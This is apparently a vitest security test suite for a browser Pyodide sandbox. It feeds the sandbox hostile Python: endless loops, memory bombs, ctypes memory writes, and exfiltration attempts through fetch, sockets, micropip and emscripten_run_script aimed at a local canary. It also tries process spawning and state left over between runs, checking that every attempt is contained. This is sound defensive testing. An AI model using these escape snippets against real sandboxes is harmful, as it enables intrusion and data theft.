// The attacker writes a Python program. He wants out, for ever, everything, or to leave something behind.
// Each attack runs under half a second; the page must not feel it, and the next run must work.

import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { RunOptions } from "../../src/engine/run-scope.ts";
import { createOptimizer, pyodide, SandboxFrame } from "../../src/index.ts";
import type { Limits } from "../../src/sandbox/limits.ts";
import { OVERWRITTEN_PYTHON, SNAPSHOT } from "../suites/differences.ts";
import { skipWhere } from "../suites/skips.ts";
import { record } from "./escapes/record.ts";
import { type Canary, openCanary } from "./setup/canary.ts";
import { LOADED_MACHINE_MS, type PageWatch, watchPage } from "./setup/page-watch.ts";
import { endOf, openTarget, type Target } from "./setup/target.ts";

let target: Target;
beforeAll(async () => {
  target = await openTarget();
  await target.optimizer.prepare("python");
});
afterAll(() => target[Symbol.asyncDispose]());

const LIMITS = { timeoutMs: 500, memoryBytes: 64 * 1024 * 1024 };
/** The promise is 200 ms; a machine that others use too gets more. */
const MAX_LATE_MS = 2_500;

type Result = Awaited<ReturnType<Target["run"]>>;

const outline = (result: Result): string =>
  result.status === "threw" ? `${endOf(result)} ${result.error.name}` : endOf(result);

/** Runs a program in an interpreter that is ready, so that no boot is measured. */
async function runPython(code: string, options: RunOptions = {}): Promise<Result> {
  await target.optimizer.prepare("python");
  return target.optimizer.run({ language: "python", code }, options);
}

async function attack(
  code: string,
  ends: RegExp,
  annotate: (text: string) => unknown,
  limits: Pick<Limits, "timeoutMs"> = LIMITS,
): Promise<Result> {
  await target.optimizer.prepare("python");
  const { value, longestTaskMs }: PageWatch & { readonly value: { result: Result; ms: number } } =
    await watchPage(async () => {
      const started = performance.now();
      const result = await target.optimizer.run({ language: "python", code }, { limits });
      return { result, ms: performance.now() - started };
    });
  const { result, ms } = value;
  await annotate(
    `${outline(result)} after ${Math.round(ms)} ms, longest task of the page ${Math.round(longestTaskMs)} ms`,
  );
  expect(outline(result)).toMatch(ends);
  expect(ms).toBeLessThan(limits.timeoutMs + MAX_LATE_MS);
  expect(longestTaskMs).toBeLessThan(LOADED_MACHINE_MS);
  return result;
}

/** Programs that do no harm: a dead sandbox holds every attack. */
const benign: readonly (readonly [code: string, value: unknown])[] = [
  ["(await tools.page.echo(n=7))['n'] * 6", 42],
  ["import json, re\nre.sub('a', 'b', json.dumps({'a': 1}))", '{"b": 1}'],
  ["sum(row['n'] for row in await asyncio.gather(*(tools.page.echo(n=n) for n in range(20))))", 190],
  ["open('/tmp/own', 'w').write('mine')\nopen('/tmp/own').read()", "mine"],
  ["def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)\nreturn fib(15)", 610],
  ["await context.set('benign', [1])\nawait context.get('benign')", [1]],
];

async function expectAlive(): Promise<void> {
  const [code, value] = benign[Math.floor(Math.random() * benign.length)] ?? ["1", 1];
  expect(await runPython(code)).toMatchObject({ status: "returned", value });
}

test.for(benign)("benign: %s", async ([code, value]) => {
  expect(await runPython(code)).toMatchObject({ status: "returned", value });
});

type Attack = readonly [wants: string, code: string];

const endless: readonly Attack[] = [
  ["a loop", "while True: pass"],
  ["a loop that catches", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"],
  ["a regular expression", "import re\nre.match(r'(a+)+$', 'a' * 50 + 'b')"],
  ["awaits without end", "while True: await asyncio.sleep(0)"],
  ["a loop in C", "10 ** 10 ** 8 % 7"],
  ["a sum in C", "sum(range(10 ** 12))"],
  ["a sort key", "sorted(range(3), key=lambda n: [0 for _ in iter(int, 1)])"],
  ["a sleep", "import time\ntime.sleep(1000)"],
  ["an awaited sleep", "await asyncio.sleep(1000)"],
  ["a loop in its cleaning up", "try:\n    while True: pass\nfinally:\n    while True: pass"],
  [
    "a loop in the text of its error",
    "class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E",
  ],
  ["a loop in its value", "class D(dict):\n    def items(self):\n        while True: pass\nD(a=object())"],
  [
    "a trace function",
    "import sys\nsys.settrace(lambda *_: 1/0)\ndef f():\n    while True: pass\nwhile True:\n    try: f()\n    except: pass",
  ],
  ["a signal handler", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"],
];

describe("a Python program that wants never to end", () => {
  test.for(endless)("%s", { timeout: 60_000 }, async ([, code], { annotate }) => {
    await attack(code, /^stopped\/timeout 408$/, annotate);
    await expectAlive();
  });
});

test("a Python program that computes while a tool is awaited is not taken for one that waits", async () => {
  await using optimizer = await createOptimizer({ tools: { hold: { call: () => new Promise(() => {}) } } });
  await optimizer.prepare("python");
  for (const how of ["call_later(0.01, spin)", "call_soon(spin)"]) {
    const code = `def spin():\n    while True: pass\nasyncio.get_running_loop().${how}\nawait tools.page.hold()`;
    const started = performance.now();
    const result = await optimizer.run({ language: "python", code }, { limits: LIMITS });
    expect(outline(result)).toBe("stopped/timeout 408");
    // Far less than it might wait for the tool.
    expect(performance.now() - started).toBeLessThan(LIMITS.timeoutMs + 2 * MAX_LATE_MS);
  }
});

const hungry: readonly Attack[] = [
  ["one bytearray", "x = bytearray(200 * 1024 * 1024)"],
  ["a growing list", "x = []\nwhile True: x.append([0] * 100)"],
  ["a growing dict", "x = {}\nn = 0\nwhile True:\n    x[n] = n\n    n += 1"],
  ["a doubled text", "x = 'x'\nwhile True: x += x"],
  ["a list of a milliard", "x = [0] * 10**9"],
  ["a shift", "x = 1 << 2_400_000_000"],
  ["nested lists", "x = []\nwhile True: x = [x, [0] * 50]"],
  [
    "a zip bomb",
    "import zlib\nzlib.decompress(zlib.compress(bytes(20_000_000)) * 1)\nx = [zlib.decompress(zlib.compress(bytes(20_000_000))) for _ in range(20)]",
  ],
];

describe("a Python program that wants all memory", () => {
  test.for(hungry)("%s", { timeout: 60_000 }, async ([, code], { annotate }) => {
    await attack(code, /^stopped\/(?:memory 429|timeout 408)$/, annotate);
    await expectAlive();
  });

  const outside: readonly Attack[] = [
    ["files", "n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(bytes(8_000_000))\n    n += 1"],
    ["a pipe", "import os\nread, write = os.pipe()\nwhile True: os.write(write, bytes(1_000_000))"],
    ["a sparse file", "f = open('/tmp/f', 'wb')\nf.truncate(2_000_000_000)"],
  ];
  test.for(outside)("outside of its own memory: %s", { timeout: 60_000 }, async ([, code], { annotate }) => {
    await attack(code, /^(?:threw 500 OSError|stopped\/(?:timeout 408|memory 429))$/, annotate);
    await expectAlive();
  });
});

const fatal: readonly Attack[] = [
  ["leaves the process", "import os\nos._exit(0)"],
  ["aborts", "import os\nos.abort()"],
  ["recurses without limit", "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)"],
  ["prints deep lists", "x = []\nfor _ in range(200_000): x = [x]\nrepr(x)"],
  ["compares deep lists", "x, y = [], []\nfor _ in range(200_000): x, y = [x], [y]\nx == y"],
  ["pickles deep lists", "import pickle\nx = []\nfor _ in range(200_000): x = [x]\npickle.dumps(x)"],
  ["parses deep JSON", "import json\njson.loads('[' * 200_000)"],
  [
    "asks for attributes",
    "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __getattr__(self, n): return getattr(self, n + 'x')\nA().y",
  ],
  ["writes anywhere", "import ctypes\nctypes.memset(0, 255, 1 << 24)"],
  ["reads anywhere", "import ctypes\nctypes.string_at(1 << 31, 10)"],
];

describe("a Python program that wants the interpreter to die in silence", () => {
  test.for(fatal)("%s", { timeout: 60_000 }, async ([name, code], { annotate, skip }) => {
    if (name === "writes anywhere") skipWhere(OVERWRITTEN_PYTHON, { skip });
    // Some of these a browser with more stack survives, as an error of the program.
    await attack(
      code,
      /^(?:stopped\/crashed 500|threw 500 (?:RecursionError|MemoryError)|stopped\/memory 429)$/,
      annotate,
      { ...LIMITS, timeoutMs: 5_000 },
    );
    await expectAlive();
  });
});

test("a Python program that floods its output is stopped", async ({ annotate }) => {
  for (const code of [
    "while True: print('x' * 1000)",
    "import os\nwhile True: os.write(1, b'x' * 100_000)",
    "import sys\nwhile True: sys.stderr.write('\\n')",
    "print('x' * 100_000_000)",
  ]) {
    await attack(code, /^stopped\/(?:output 429|timeout 408|memory 429)$/, annotate);
  }
  await expectAlive();
});

/** Ways to a network: `CANARY` is where a leak would go. */
const leaks: readonly Attack[] = [
  ["fetch", "from js import fetch\nawait fetch(CANARY)"],
  ["a request of Pyodide's", "from pyodide.http import pyfetch\nawait pyfetch(CANARY)"],
  ["an old request of Pyodide's", "from pyodide.http import open_url\nopen_url(CANARY)"],
  ["urllib", "import urllib.request\nurllib.request.urlopen(CANARY)"],
  [
    "a socket",
    "import socket\ns = socket.create_connection((HOST, PORT), timeout=1)\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
  ],
  ["asyncio's streams", "await asyncio.open_connection(HOST, PORT)"],
  ["a package", "import pyodide_js\nawait pyodide_js.loadPackage(CANARY + '/evil-1.0-py3-none-any.whl')"],
  ["an installer", "import micropip\nawait micropip.install(CANARY + '/evil-1.0-py3-none-any.whl')"],
  ["code from text", "from pyodide.code import run_js\nrun_js('fetch(\"' + CANARY + '\")')"],
  ["a constructor", "import js\njs.Object.constructor('return fetch(\"' + CANARY + '\")')()"],
  [
    "the engine's own script runner",
    "import ctypes\nf = ctypes.CDLL(None).emscripten_run_script\nf(('fetch(\"' + CANARY + '\")').encode())",
  ],
];

async function leak(code: string, canary: Canary): Promise<Result> {
  const { hostname, port } = new URL(canary.http);
  const given = `CANARY = ${JSON.stringify(`${canary.http}leak`)}\nHOST = "${hostname}"\nPORT = ${port}\n`;
  return runPython(given + code, { limits: { timeoutMs: 3_000 } });
}

describe("a Python program that wants out", () => {
  test.for(leaks)("by %s", { timeout: 60_000 }, async ([, code]) => {
    const canary = openCanary();
    const result = await leak(code, canary);
    expect(endOf(result)).toMatch(/^(?:threw (?:400|500)|stopped\/(?:crashed 500|timeout 408))$/);
    // The same address from the page, later: had the program reached it, that hit would be there as well.
    await fetch(`${canary.http}control`, { mode: "no-cors" });
    expect(await canary.hits("control")).toEqual(["control"]);
    await expectAlive();
  });

  test("finds nothing of the worker, the page or the storage in JavaScript", async () => {
    const code = `
import js, sys
names = ["document", "parent", "top", "opener", "localStorage", "indexedDB", "caches", "navigator", "fetch", "XMLHttpRequest",
         "WebSocket", "Worker", "importScripts", "postMessage", "Function", "eval", "globalThis", "self"]
found = [name for name in names if hasattr(js, name)]
import pyodide_js
bridges = [name for name in ("to_js", "create_proxy", "run_js") for module in list(sys.modules.values()) if hasattr(module, name)]
return [found, [name for name in dir(pyodide_js) if not name.startswith("__")], bridges]`;
    expect(await runPython(code)).toMatchObject({ status: "returned", value: [[], [], []] });
  });

  test("starts no process, and sees nothing of the machine", async () => {
    const code = `
import os, subprocess
def attempt(act):
    try: return act()
    except BaseException as error: return type(error).__name__
return [os.system("id"), attempt(lambda: subprocess.run(["id"])), attempt(os.fork), attempt(lambda: open("/etc/hostname").read()),
        sorted(key for key in os.environ if key not in ("HOME", "PATH", "PWD", "USER", "LANG", "LOGNAME", "_", "PYTHONINSPECT", "LC_ALL", "LD_LIBRARY_PATH"))]`;
    expect(await runPython(code)).toMatchObject({
      status: "returned",
      value: [-1, "OSError", "OSError", "FileNotFoundError", []],
    });
  });
});

const leavings: readonly (readonly [leaves: string, first: string, second: string, clean: unknown])[] = [
  ["a file", "open('/tmp/left', 'w').write('LEAKED')", "import os\nos.listdir('/tmp')", []],
  [
    "a module",
    "import sys, types\nsys.modules['left'] = types.ModuleType('left')",
    "import sys\n'left' in sys.modules",
    false,
  ],
  ["a builtin", "import builtins\nbuiltins.len = lambda _: 'LEAKED'", "len([1])", 1],
  [
    "a method of a module",
    "import json\njson.dumps = lambda *_: 'LEAKED'",
    "import json\njson.dumps(1)",
    "1",
  ],
  ["an import hook", "import sys\nsys.meta_path.insert(0, None)", "import sys\nNone in sys.meta_path", false],
  [
    "a task",
    "async def t():\n    while True:\n        await asyncio.sleep(0.01)\n        await tools.page.echo(left=1)\nx = asyncio.ensure_future(t())",
    "len(asyncio.all_tasks())",
    1,
  ],
  ["an exit handler", "import atexit\nx = atexit.register(print, 'LEAKED')", "1", 1],
  [
    "an environment variable",
    "import os\nos.environ['LEFT'] = 'LEAKED'",
    "import os\nos.environ.get('LEFT')",
    null,
  ],
  [
    "the recursion limit",
    "import sys\nsys.setrecursionlimit(50)",
    "import sys\nsys.getrecursionlimit() > 100",
    true,
  ],
];

describe("what a Python program leaves to the next one", () => {
  test.for(leavings)("%s", { timeout: 60_000 }, async ([, first, second, clean]) => {
    const calls = target.calls.length;
    expect(await runPython(first, { session: "one" })).toMatchObject({ status: "returned" });
    const after = await runPython(second, { session: "another" });
    expect(after).toMatchObject({ status: "returned", value: clean, logs: [] });
    expect(target.calls.length - calls).toBeLessThanOrEqual(1);
  });

  const RANDOM =
    "random.random(), random.getrandbits(64), os.urandom(8).hex(), uuid.uuid4().hex, secrets.token_hex(8)";
  const drawTwice = async (code: string): Promise<readonly (readonly unknown[])[]> =>
    [await runPython(code), await runPython(code)].map((result) =>
      result.status === "returned" && Array.isArray(result.value) ? result.value : [],
    );

  test("every run draws its own random numbers", async (context) => {
    record(context, {
      table: "attacks",
      id: "py-draws-again",
      covers: ["PUB-POI-06"],
      wants: "to know what the next run draws",
      target: "pyodide",
      how: "every draw of the next run is another one",
    });
    const [one = [], other = []] = await drawTwice(`import os, random, secrets, uuid\n[${RANDOM}]`);
    expect(one).toHaveLength(5);
    for (const [at, drawn] of one.entries()) expect(drawn).not.toEqual(other[at]);
    // Control: of a generator with the same seed the draws are the same, and seen to be.
    const [first, second] = await drawTwice("import random\nrandom.seed(7)\n[random.random()]");
    expect(first).toHaveLength(1);
    expect(second).toEqual(first);
  });

  test("the one hash seed of all runs is that of the build; without the snapshot each has its own", async (context) => {
    skipWhere(SNAPSHOT, context);
    const code = "[hash('x'), hash(b'x'), hash(('x', 1.5))]";
    const [one = [], other = []] = await drawTwice(code);
    expect(one).toHaveLength(3);
    expect(other).toEqual(one);
    await using frame = new SandboxFrame();
    await using optimizer = await createOptimizer({
      frame,
      tools: { echo: { call: async (args) => args } },
      sandboxes: [pyodide({ frame, snapshot: false })],
    });
    const drawn = [
      await optimizer.run({ language: "python", code }),
      await optimizer.run({ language: "python", code }),
    ];
    const [first, second] = drawn.map((result) => (result.status === "returned" ? result.value : undefined));
    expect(first).toHaveLength(3);
    expect(second).toHaveLength(3);
    for (const at of [0, 1, 2]) expect(Object(first)[at]).not.toEqual(Object(second)[at]);
  });
});
